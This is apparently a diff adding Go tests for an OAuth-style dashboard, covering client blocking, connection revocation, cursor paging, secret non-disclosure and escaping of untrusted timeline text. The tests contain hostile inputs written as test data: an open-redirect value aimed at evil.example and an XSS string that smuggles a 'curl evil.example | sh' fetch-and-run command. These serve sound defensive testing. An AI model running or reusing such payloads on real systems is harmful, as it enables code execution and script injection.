@@ -1,0 +1,167 @@
+package dashboard_test
+
+import (
+	"net/http"
+	"net/url"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/mcpauth/mcpauth/internal/secret"
+	"github.com/mcpauth/mcpauth/tenants"
+)
+
+// grant makes a person who allowed a client at the first MCP server of the world's project, and the timeline of it.
+func (w *world) grant(t *testing.T, email, client string) (user, grant, attempt secret.ID) {
+	t.Helper()
+	user = must(w.store.EnsureUser(t.Context(), w.project, email, ""))
+	grant, attempt = secret.NewID(), secret.NewID()
+	w.exec(t, `INSERT INTO grants (project_id, id, flow_id, issuer, user_id, client_id, mcp_server_id, resource, scopes, redirect_uri, code_challenge, random_hash, session_id,
+			client_auth_method, auth_time, refreshable, code_expires_at, code_redeemed_at, generation, rotated_at, access_expires_at, idle_expires_at, expires_at)
+		SELECT project_id, $2, $3, 'http://localhost:8080/t/acme', $4, $5, id, resource, '{mcp:tools}', 'http://localhost/callback', 'challenge', 'hash', $6, 'none', now(), true,
+			now() + interval '1 minute', now(), 1, now(), now() + interval '1 hour', now() + interval '30 days', now() + interval '1 year'
+		FROM mcp_servers WHERE project_id = $1 ORDER BY created_at LIMIT 1`, w.project.String(), grant.String(), attempt.String(), user.String(), client, secret.NewID().String())
+	for i, step := range []tenants.Step{tenants.StepAuthorize, tenants.StepSignIn, tenants.StepConsent, tenants.StepToken} {
+		w.step(t, tenants.Activity{At: time.Now().Add(time.Duration(i-10) * time.Second), AttemptID: attempt, Step: step, Outcome: tenants.OutcomeOK, ClientID: client, GrantID: grant, UserID: user})
+	}
+	return user, grant, attempt
+}
+
+// step writes a step of the timeline.
+func (s *site) step(t *testing.T, a tenants.Activity) {
+	t.Helper()
+	var project string
+	if err := s.super.QueryRow(t.Context(), `SELECT id FROM projects ORDER BY created_at LIMIT 1`).Scan(&project); err != nil {
+		t.Fatal(err)
+	}
+	s.exec(t, `INSERT INTO activity (project_id, id, at, attempt_id, step, outcome, client_id, client_name, agent, code, parameter, got, expected, advice)
+		VALUES ($1, $2, $3, $4, $5, $6, $7, $8, $9, $10, $11, $12, $13, $14)`, project, secret.NewID().String(), a.At, a.AttemptID.String(), string(a.Step), string(a.Outcome),
+		a.ClientID, a.ClientName, a.Agent, a.Code, a.Parameter, a.Got, a.Expected, a.Advice)
+}
+
+func (w *world) of(t *testing.T, path string) string { return w.path(t, below+path) }
+
+// What a member does about a client bites at once: its connections end, and the page says what will happen before.
+func TestBlockingAClientEndsItsConnections(t *testing.T) {
+	t.Parallel()
+	w := newWorld(t)
+	b := w.as(t, "developer")
+	page := b.get(t, w.of(t, "/clients/of/:client")).want(t, http.StatusOK)
+	if !strings.Contains(page.doc.Find("main").Text(), "Its connections, 1, end within a second") {
+		t.Error("the page does not say what a block does")
+	}
+	b.post(t, w.of(t, "/clients/of/:client/block")).want(t, http.StatusSeeOther)
+	if n := w.rows(t, `SELECT FROM grants WHERE revoked_at IS NULL`); n != 0 {
+		t.Errorf("%d living grants", n)
+	}
+	if n := w.rows(t, `SELECT FROM revocations`); n != 1 {
+		t.Errorf("guards heard of %d grants", n)
+	}
+	after := b.get(t, w.of(t, "/clients/of/:client")).want(t, http.StatusOK)
+	if !strings.Contains(after.text, "The client is blocked") || !strings.Contains(after.doc.Find("main").Text(), "Let it in again") {
+		t.Error("the page does not say that it is blocked")
+	}
+	if again := b.get(t, w.of(t, "/clients/of/:client")); strings.Contains(again.text, "The client is blocked, and") {
+		t.Error("the message stays")
+	}
+}
+
+// One connection ends by itself, and the consent with it; the others stay.
+func TestEndOneConnection(t *testing.T) {
+	t.Parallel()
+	w := newWorld(t)
+	client := string(must(secret.Decode(w.params[":client"])))
+	w.grant(t, "grace@people.example", client)
+	b := w.as(t, "developer")
+	list := b.get(t, w.of(t, "/connections")).want(t, http.StatusOK)
+	if list.doc.Find("tr[data-grant]").Length() != 2 {
+		t.Fatalf("%d connections", list.doc.Find("tr[data-grant]").Length())
+	}
+	action, _ := list.doc.Find(`tr[data-grant="` + w.params[":grant"] + `"] form`).Attr("action")
+	b.post(t, action).wantRedirect(t, w.of(t, "/connections"))
+	left := b.get(t, w.of(t, "/connections?user="+w.params[":user"])).want(t, http.StatusOK)
+	if left.doc.Find("tr[data-grant]").Length() != 0 {
+		t.Error("the connection is still there")
+	}
+	if all := b.get(t, w.of(t, "/connections?client="+url.QueryEscape(client))); all.doc.Find("tr[data-grant]").Length() != 1 {
+		t.Error("another connection ended too")
+	}
+	evil := strings.Replace(action, "back=", "back="+url.QueryEscape("https://evil.example/")+"&x=", 1) // catalogue 117
+	b.post(t, evil).wantRedirect(t, w.of(t, "/connections"))
+}
+
+// Lists page by cursor: every row once. A forged cursor, and one of another list or project, is refused (catalogue 225).
+func TestListsPageByCursor(t *testing.T) {
+	t.Parallel()
+	w := newWorld(t)
+	w.exec(t, `INSERT INTO users (project_id, id, email) SELECT $1, gen_random_uuid(), 'user' || n || '@people.example' FROM generate_series(1, 119) n`, w.project.String())
+	b := w.as(t, "viewer")
+	seen := map[string]int{}
+	path, pages := w.of(t, "/users"), 0
+	for path != "" {
+		page := b.get(t, path).want(t, http.StatusOK)
+		for _, email := range page.doc.Find("tbody th a").Map(textOf) {
+			seen[email]++
+		}
+		path, _ = page.doc.Find(`a[rel=next]`).Attr("href")
+		pages++
+	}
+	if len(seen) != 120 || pages != 3 {
+		t.Errorf("%d users on %d pages", len(seen), pages)
+	}
+	for email, n := range seen {
+		if n != 1 {
+			t.Errorf("%s stands %d times", email, n)
+		}
+	}
+	next, _ := b.get(t, w.of(t, "/users")).doc.Find(`a[rel=next]`).Attr("href")
+	_, cursor, _ := strings.Cut(next, "after=")
+	for _, forged := range []string{w.of(t, "/users?after=AAAA"), w.of(t, "/users?after="+secret.NewID().String()), w.of(t, "/connections?after="+cursor), w.of(t, "/users?after="+cursor[:len(cursor)-2]+"xx")} {
+		b.get(t, forged).want(t, http.StatusBadRequest)
+	}
+}
+
+// Catalogue 222: no page and no table shows a secret that was stored.
+func TestSecretsAreNotReadBack(t *testing.T) {
+	t.Parallel()
+	w := newWorld(t)
+	b := w.as(t, "owner")
+	made := b.post(t, w.of(t, "/clients/access/tokens"), "name", "partner", "days", "").want(t, http.StatusCreated)
+	token := made.doc.Find(`[data-testid="initial-access-token"]`).Text()
+	own := b.post(t, w.of(t, "/sign-in/own"), "name", "Acme", "url", "https://acme.example/login").want(t, http.StatusCreated)
+	login := own.doc.Find(`[data-testid="own-login-secret"]`).Text()
+	client := b.post(t, w.of(t, "/clients"), "name", "Server", "redirect_uris", "https://app.example/callback", "kind", "confidential").want(t, http.StatusCreated)
+	clientSecret := client.doc.Find(`[data-testid="client-secret"]`).Text()
+	if !strings.HasPrefix(token, "mcpauth_it_") || !strings.HasPrefix(login, "mcpauth_ol_") || clientSecret == "" {
+		t.Fatalf("shown once: %q %q %q", token, login, clientSecret)
+	}
+	pages := w.everything(t) + w.log.String()
+	for _, path := range []string{"/clients/access", "/sign-in", "/sign-in/own", "/sign-in/providers/:provider", "/keys", "/clients", "/settings"} {
+		pages += b.get(t, w.of(t, path)).want(t, http.StatusOK).text
+	}
+	for _, hidden := range []string{token, login, clientSecret, "secret of github"} {
+		if strings.Contains(pages, hidden) {
+			t.Errorf("%.12s… can be read again", hidden)
+		}
+	}
+}
+
+// Catalogue 223: what strangers write about themselves is text in the timeline, and in the command to copy.
+func TestTimelineShowsStrangersAsText(t *testing.T) {
+	t.Parallel()
+	w := newWorld(t)
+	evil := `<script>alert(1)</script>"'; curl evil.example | sh #`
+	w.step(t, tenants.Activity{At: time.Now(), AttemptID: secret.NewID(), Step: tenants.StepToken, Outcome: tenants.OutcomeRefused, ClientID: evil, ClientName: evil, Agent: evil,
+		Code: "invalid_grant", Parameter: "code", Got: evil, Expected: "a code", Advice: "Try again."})
+	page := w.as(t, "viewer").get(t, w.of(t, "/activity")).want(t, http.StatusOK)
+	if page.doc.Find("main script").Length() != 0 || !strings.Contains(page.doc.Find("main").Text(), "<script>alert(1)") {
+		t.Error("markup of a stranger")
+	}
+	curl := page.doc.Find(`[data-testid="curl"]`).First().Text()
+	if !strings.Contains(curl, `-A '<script>alert(1)</script>"'\''; curl evil.example | sh #'`) {
+		t.Errorf("not quoted: %s", curl)
+	}
+	if page.doc.Find("details[open] [data-step-outcome=refused]").Length() != 1 {
+		t.Error("the failed step is not open")
+	}
+}
